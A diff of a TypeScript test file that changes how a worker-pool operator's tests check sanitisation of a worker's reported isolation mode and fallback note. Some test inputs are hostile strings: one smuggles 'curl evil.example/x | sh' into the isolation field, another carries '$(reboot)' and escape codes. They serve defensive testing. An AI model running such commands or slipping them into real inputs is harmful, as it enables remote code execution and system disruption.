@@ -4,7 +4,11 @@ import { connectRedis, newJob, openQueue } from 'millhand/queue'
 import type { WorkerPoolObject } from '../../../control/src/resources/worker-pool.ts'
 import type { OwnerReference, Pod } from '../../../operator/src/fleet/cluster.ts'
 import { emptyMemory } from '../../../operator/src/worker-pool/memory.ts'
-import { type Caches, observeWorkerPool } from '../../../operator/src/worker-pool/observe.ts'
+import {
+  type Caches,
+  type ObservedWorker,
+  observeWorkerPool,
+} from '../../../operator/src/worker-pool/observe.ts'
 import { openServers } from '../../control/redis/open-servers.ts'
 import { eventually } from '../../eventually.ts'
 import { redisUrl } from '../../redis.ts'
@@ -56,17 +60,17 @@ const manifest = {
 }
 
 test.each([
-  ['Fork', '', 'Fork'],
+  ['Fork', '', { isolation: 'Fork' }],
   [
     'Spawn',
     'Fork needs glibc, and this Node uses another C library (musl, as on Alpine)',
-    /^Spawn \(Fork needs glibc.*\)$/,
+    { isolation: 'Spawn', fallback: expect.stringMatching(/^Fork needs glibc.*Alpine\)$/) },
   ],
-  ['x --overwrite; curl evil.example/x | sh #', '', 'unknown'],
-  ['Fork', '\u001b[31m`$(reboot)`\n<b>|&"', 'Fork (31m(reboot)b)'],
-  ['Fork', 'a'.repeat(10_000), `Fork (${'a'.repeat(120)})`],
+  ['x --overwrite; curl evil.example/x | sh #', '', {}],
+  ['Fork', '\u001b[31m`$(reboot)`\n<b>|&"', { isolation: 'Fork', fallback: '31m(reboot)b' }],
+  ['Fork', 'a'.repeat(10_000), { isolation: 'Fork', fallback: 'a'.repeat(120) }],
 ])(
-  'of a worker whose isolation is %j, with the note %j, %s is told',
+  'of a worker whose isolation is %j, with the note %j, %j is told',
   async (isolation, isolationNote, told) => {
     const queue = openQueue(redis, NAME)
     const entry = {
@@ -81,9 +85,8 @@ test.each([
     await queue.register({ ...entry, version: '1', isolation, isolationNote })
     clock.skippedMs += 1_000
     const { workers } = await observe()
-    expect(workers).toMatchObject([
-      { isolation: typeof told === 'string' ? told : expect.stringMatching(told) },
-    ])
+    const [{ isolation: mode, fallback } = {}] = workers as ObservedWorker[]
+    expect({ ...(mode && { isolation: mode }), ...(fallback && { fallback }) }).toEqual(told)
   },
 )
 
